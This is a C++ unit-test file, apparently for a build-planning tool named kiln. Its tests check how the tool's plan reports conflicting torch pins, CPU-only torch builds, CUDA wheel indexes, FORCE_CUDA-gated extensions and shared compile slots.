  h.fs.add_file("/ext/requirements.txt", "torch<2.0\ntorch>=2.5.1\n");
  auto p = h.plan("/ext", {.gpus = {"h100"}});
  ASSERT_TRUE(p) << p.error().message;
  ASSERT_EQ(p->torch_unmet.size(), 1u);  // torch<2.0 holds for 1.13.1
  EXPECT_EQ(p->torch_unmet[0].where, "pyproject.toml:2, setup.py:2, requirements.txt:2");
  int notes = 0;
  for (const auto& n : p->notes) notes += n.find("declares torch") != std::string::npos;
  EXPECT_EQ(notes, 1);
  bool named = false;
  for (const auto& n : p->notes)
    named |=
        n.find("declares torch>=2.5.1 (pyproject.toml:2, setup.py:2, requirements.txt:2), but") != std::string::npos;
  EXPECT_TRUE(named);
}

namespace {
// The plan's note on a CPU-only torch ("" when there is none).
std::string cpu_torch_note(Harness& h, const std::string& dir) {
  auto p = h.plan(dir, {.gpus = {"h100"}});
  EXPECT_TRUE(p) << p.error().message;
  if (!p) return {};
  for (const auto& n : p->notes)
    if (n.find("CPU-only build") != std::string::npos) return n;
  return {};
}
}  // namespace

// issue 33: the advice for a CPU-only torch named the cu130 index whatever nvcc the machine had;
// with CUDA 12.4 (the fake nvcc's answer) it is cu124's.
TEST(PythonPlan, ACpuOnlyTorchIsToldTheCudaIndexOfTheNvccFound) {
  Harness h;
  h.proc.on("/usr/local/cuda/bin/nvcc --version", io::ran("Cuda compilation tools, release 12.4, V12.4.131\n"));
  h.fs.add_file("/site/torch/version.py", "__version__ = '1.13.1'\ncuda = None\n");
  h.fs.add_file("/ext/setup.py",
                "from torch.utils.cpp_extension import BuildExtension, CUDAExtension\n"
                "setup(ext_modules=[CUDAExtension('m', ['m.cu'])])\n");
  const std::string note = cpu_torch_note(h, "/ext");
  EXPECT_NE(note.find("https://download.pytorch.org/whl/cu124 (the index for CUDA 12.4"), std::string::npos) << note;
  EXPECT_EQ(note.find("cu130"), std::string::npos) << note;
  // PyTorch publishes no cu125: CUDA 12.5's nvcc is told cu124's, and why (data/torch_indexes.toml).
  h.proc.on("/usr/local/cuda/bin/nvcc --version", io::ran("Cuda compilation tools, release 12.5, V12.5.82\n"));
  const std::string older = cpu_torch_note(h, "/ext");
  EXPECT_NE(older.find("https://download.pytorch.org/whl/cu124 (PyTorch publishes no cu125 index"), std::string::npos)
      << older;
}

// issue 33: nvdiffrast 253ac4fc makes its CUDAExtension under no switch (setup.py:27); against a
// CPU-only torch the note said "the project's CUDA switches stay at their defaults", which builds
// nothing it can: the build fails at that extension, and the note says so. A gated project's stays.
TEST(PythonPlan, ACpuOnlyTorchSaysTheBuildFailsWhereNoSwitchGatesTheCudaExtension) {
  Harness h;
  h.fs.add_file("/site/torch/version.py", "__version__ = '1.13.1'\ncuda = None\n");
  h.fs.add_file("/ext/setup.py",
                "from torch.utils.cpp_extension import BuildExtension, CUDAExtension\n"
                "setup(ext_modules=[CUDAExtension('m', ['m.cu'])])\n");
  h.fs.add_file("/gated/setup.py",
                "import os\nfrom torch.utils.cpp_extension import CUDAExtension, CppExtension\n"
                "if os.getenv('FORCE_CUDA', '0') == '1':\n"
                "    ext = CUDAExtension('m', ['m.cu'])\n"
                "else:\n"
                "    ext = CppExtension('m', ['m.cpp'])\n"
                "setup(ext_modules=[ext])\n");
  const auto bare = cpu_torch_note(h, "/ext");
  EXPECT_NE(bare.find("under no switch kiln found, at setup.py:2 "), std::string::npos) << bare;
  EXPECT_NE(bare.find("the build is expected to fail"), std::string::npos) << bare;
  EXPECT_EQ(bare.find("stay at their defaults"), std::string::npos) << bare;
  const auto gated = cpu_torch_note(h, "/gated");
  EXPECT_NE(gated.find("CUDA switches stay at their defaults"), std::string::npos) << gated;
}

// issue 33: a build that compiles no CUDA printed `targets 80-real;90-real;...` (kiln plan of a
// CppExtension-only project, and of rusty1s/pytorch_cluster 3d1d9e3 against Debian's CPU-only torch
// 1.13, whose FORCE_CUDA kiln leaves off). The targets line now says none is compiled and why, in
// text and in JSON, and names no GPU it would run on.
TEST(PythonPlan, TheTargetsLineSaysWhenNoCudaIsCompiled) {
  Harness h;
  h.fs.add_file("/site/torch/version.py", "__version__ = '2.11.0+cu130'\ncuda = '13.0'\n");
  h.fs.add_file("/cpp/setup.py",
                "from torch.utils.cpp_extension import BuildExtension, CppExtension\n"
                "setup(ext_modules=[CppExtension('m', ['m.cpp'])])\n");
  auto cpp = h.plan("/cpp", {.gpus = {"h100"}});
  ASSERT_TRUE(cpp) << cpp.error().message;
  EXPECT_NE(cpp->no_cuda.find("kiln sees no CUDA code in the project"), std::string::npos) << cpp->no_cuda;
  const std::string text = plan::plan_to_text(*cpp);
  EXPECT_NE(text.find("targets   none (no CUDA code is compiled: kiln sees no CUDA code"), std::string::npos) << text;
  EXPECT_EQ(text.find("90-real"), std::string::npos) << text;
  EXPECT_EQ(text.find("runs on"), std::string::npos) << text;
  const auto j = plan::plan_to_json(*cpp);
  EXPECT_EQ(j["cuda_compiled"], false);
  auto off = h.plan("/cpp", {.profile = "cpu"});
  ASSERT_TRUE(off) << off.error().message;
  EXPECT_NE(plan::plan_to_text(*off).find("targets   none (no CUDA code is compiled: CUDA is off (profile cpu))"),
            std::string::npos)
      << plan::plan_to_text(*off);
  EXPECT_NE(j["no_cuda"].get<std::string>().find("no CUDA code"), std::string::npos);

  // CUDA code behind FORCE_CUDA and a GPU probe, against a CPU-only torch: both stay off.
  h.fs.add_file("/site/torch/version.py", "__version__ = '1.13.1'\ncuda = None\n");
  // The CppExtension against that torch: still none, and no note that its "CUDA extension" fails.
  EXPECT_EQ(cpu_torch_note(h, "/cpp"), "");
  h.fs.add_file("/gated/setup.py",
                "import os, torch\nfrom torch.utils.cpp_extension import CUDAExtension, CppExtension\n"
                "if torch.cuda.is_available() or os.getenv('FORCE_CUDA', '0') == '1':\n"
                "    ext = CUDAExtension('m', ['m.cu'])\n"
                "else:\n"
                "    ext = CppExtension('m', ['m.cpp'])\n"
                "setup(ext_modules=[ext])\n");
  auto gated = h.plan("/gated", {.gpus = {"h100"}});
  ASSERT_TRUE(gated) << gated.error().message;
  EXPECT_NE(gated->no_cuda.find("torch 1.13.1 is a CPU-only build, and the project compiles its CUDA code only through "
                                "FORCE_CUDA (setup.py:3), the GPU probe at setup.py:3, which stay off against it"),
            std::string::npos)
      << gated->no_cuda;
  EXPECT_NE(plan::plan_to_text(*gated).find("targets   none (no CUDA code is compiled: torch 1.13.1"),
            std::string::npos);
  // The user's FORCE_CUDA=1 wins: the CUDA extension is tried (and the note says it fails).
  auto forced = h.plan("/gated", {.gpus = {"h100"}, .knobs = {"FORCE_CUDA=1"}});
  ASSERT_TRUE(forced) << forced.error().message;
  EXPECT_EQ(forced->no_cuda, "");
  // A CUDAExtension under no switch is tried too: its targets stand.
  h.fs.add_file("/bare/setup.py",
                "from torch.utils.cpp_extension import BuildExtension, CUDAExtension\n"
                "setup(ext_modules=[CUDAExtension('m', ['m.cu'])])\n");
  auto bare = h.plan("/bare", {.gpus = {"h100"}});
  ASSERT_TRUE(bare);
  EXPECT_EQ(bare->no_cuda, "");
  EXPECT_NE(plan::plan_to_text(*bare).find("targets   90-real"), std::string::npos) << plan::plan_to_text(*bare);
  EXPECT_EQ(plan::plan_to_json(*bare)["cuda_compiled"], true);
}

// issue 35: a torch project's extensions build side by side, each Ninja at -j jobs, and kiln exec
// keeps all their compiles to one pool of the plan's jobs (launch/compile_pool): the jobs line says
// so where kiln exec runs the compiles, and not without it (--no-governor: each Ninja's -j alone).
TEST(PythonPlan, TheJobsLineSaysTheExtensionsShareItsSlots) {
  Harness h;
  h.fs.add_file("/site/torch/version.py", "__version__ = '2.11.0+cu130'\ncuda = '13.0'\n");
  h.fs.add_file("/ext/setup.py",
                "from torch.utils.cpp_extension import BuildExtension, CUDAExtension\n"
                "setup(ext_modules=[CUDAExtension('a', ['a.cu']), CUDAExtension('b', ['b.cu'])])\n");
  auto governed = h.plan("/ext", {.gpus = {"h100"}, .jobs = 6, .governor = true, .kiln_exe = "/usr/bin/kiln"});
  ASSERT_TRUE(governed) << governed.error().message;
  const std::string text = plan::plan_to_text(*governed);
  EXPECT_NE(text.find("; the extensions' Ninjas share these 6 compile slots]"), std::string::npos) << text;
  auto ungoverned = h.plan("/ext", {.gpus = {"h100"}, .jobs = 6});
  ASSERT_TRUE(ungoverned) << ungoverned.error().message;
  EXPECT_EQ(plan::plan_to_text(*ungoverned).find("compile slots"), std::string::npos);
}
